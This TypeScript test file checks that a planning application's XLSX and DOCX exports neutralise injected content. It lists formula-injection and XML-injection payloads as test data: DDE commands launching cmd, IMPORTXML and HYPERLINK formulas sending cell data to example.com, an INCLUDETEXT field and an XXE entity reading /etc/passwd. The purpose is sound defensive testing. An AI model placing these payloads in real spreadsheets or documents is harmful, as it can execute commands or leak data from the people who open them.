import readSheets from 'read-excel-file/node';
import { describe, expect, test } from 'vitest';
import { planDocument } from '#3-plan/exchange/core/out/plan-document.ts';
import { planWorkbook } from '#3-plan/exchange/core/out/plan-workbook.ts';
import { PlanContent } from '#3-plan/plan/core/content.ts';
import { printableLine } from '#base/printable.ts';
import { unzip } from '#platform/documents/zip.ts';
import { docxHere } from '#platform/export/docx/docx-here.ts';
import { whole } from '#platform/export/whole.ts';
import { writeXlsx } from '#platform/export/xlsx/write-xlsx.ts';
import { hostileTexts } from '../hostile-text.ts';

/** What spreadsheets and word processors have run or fetched when it stood in a document as it was typed. */
const attacks = [
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("http://example.com?x="&A1,"Se planen")',
  '=IMPORTXML(CONCAT("http://example.com/?v=",CONCATENATE(A2:E2)),"//a")',
  `+SUM(1+1)*cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!D2`,
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=1+1\n=2+2',
  '_x003D_1+1',
  '{=SUM(A1:A9)}',
  'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"',
  '</w:t></w:r><w:r><w:instrText>INCLUDETEXT "/etc/passwd"</w:instrText>',
  '</t></is></c><c r="A9"><f>1+1</f>',
  ']]><f>1+1</f>',
  '&quot;><!ENTITY x SYSTEM "file:///etc/passwd">&x;',
  'a\u0000b\u0008c\u001fd\ufffee\ud800f',
  ...hostileTexts.filter((_, at) => at % 4 === 0),
];

const planOf = (attacks: readonly string[]) =>
  PlanContent.parse({
    title: attacks[0],
    lang: 'nb',
    from: null,
    to: null,
    frame: { kind: 'strategy', title: attacks[1], from: null, to: null },
    goals: attacks.map((text, at) => ({ key: `m${at}`, kind: 'goal', title: text, purpose: text })),
    measures: attacks.map((text, at) => ({
      ...{ key: `t${at}`, goal: `m${at}`, ref: text.trim().slice(0, 30), title: text },
      ...{ standing: 'proposed', challenge: text, description: `- ${text}`, steps: [text] },
      ...{ effect: text, leads: [text], partners: [text] },
    })),
    budget: attacks.map((text) => ({ item: text, year: 2026, amount: 100n })),
    funding: attacks.map((text) => ({
      ...{ source: text, payer: text, item: text, year: 2026, amount: 100n, certainty: 'granted' },
    })),
    approvals: attacks.map((text, at) => ({
      body: `${text} ${at}`,
      of: text,
      caseNumber: text.slice(0, 80),
    })),
  });

const plan = planOf(attacks);
/** The same plan with nothing in it that could run. */
const tame = planOf(attacks.map((_, at) => `Tekst ${at}`));
const facts = { owner: '=1+1 <b>partnerskap</b>', state: null };

function parts(bytes: Buffer): Map<string, string> {
  const zip = unzip(bytes);
  if (!zip.ok) throw new Error(zip.refused.join());
  return new Map([...zip.value].map(([name, content]) => [name, content.toString('utf8')]));
}

/** Signs that no XML may hold in any spelling. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: these are the characters meant.
const forbidden = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff\ufffd]/;

describe('text that would run', () => {
  test('is text in every cell of a workbook, also after one has opened the cell', async () => {
    const bytes = await whole(writeXlsx(planWorkbook(plan, facts)));
    const files = parts(bytes);
    for (const [name, xml] of files) {
      if (!name.includes('worksheets')) continue;
      expect(xml.replace(/\ufffd/g, '')).not.toMatch(forbidden);
      const elements = new Set(
        [...xml.matchAll(/<\/?([A-Za-z]\w*)/g)].map(([, element]) => element),
      );
      for (const live of ['f', 'hyperlink', 'hyperlinks', 'formula', 'script'])
        expect([name, elements.has(live)]).toEqual([name, false]);
      for (const [, attributes = ''] of xml.matchAll(/<c ([^>]*)>/g))
        if (attributes.includes('t=')) expect(attributes).toContain('t="inlineStr"');
    }
    const styles = files.get('xl/styles.xml') ?? '';
    const looks = [...(styles.split('<cellXfs')[1] ?? '').matchAll(/<xf [^>]*>/g)].map(
      ([xf]) => xf,
    );
    expect(looks[3]).toContain('quotePrefix="1"');
    const [, , measures] = await readSheets(bytes);
    const titles = measures?.data.slice(1).map((row) => row[1]) ?? [];
    expect(titles).toHaveLength(attacks.length);
    expect(titles[0]).toBe(attacks[0]);
    expect(titles[9]).toBe(attacks[9]);
  });

  test('is text in a document, and brings no field, link, picture or markup of its own', {
    timeout: 20_000,
  }, async () => {
    const bytes = await docxHere(planDocument(plan, facts));
    const harmless = await docxHere(planDocument(tame, facts));
    const xml = parts(bytes).get('word/document.xml') ?? '';
    const plain = parts(harmless).get('word/document.xml') ?? '';
    const kinds = (text: string) =>
      new Set([...text.matchAll(/<(w:\w+)/g)].map(([, kind]) => kind));
    expect([...kinds(xml)].filter((kind) => !kinds(plain).has(kind))).toEqual([]);
    expect(xml.match(/<w:instrText/g)).toHaveLength(1);
    expect(xml.replace(/\ufffd/g, '')).not.toMatch(forbidden);
    const words = [...xml.matchAll(/<w:t [^>]*>([^<]*)</g)].map(([, text]) => text);
    for (const text of [attacks[0], attacks[11], attacks[12]])
      expect(words).toContain(
        printableLine(text ?? '')
          .replaceAll('<', '&lt;')
          .replaceAll('>', '&gt;')
          .replaceAll('"', '&quot;')
          .replaceAll("'", '&apos;'),
      );
  });
});
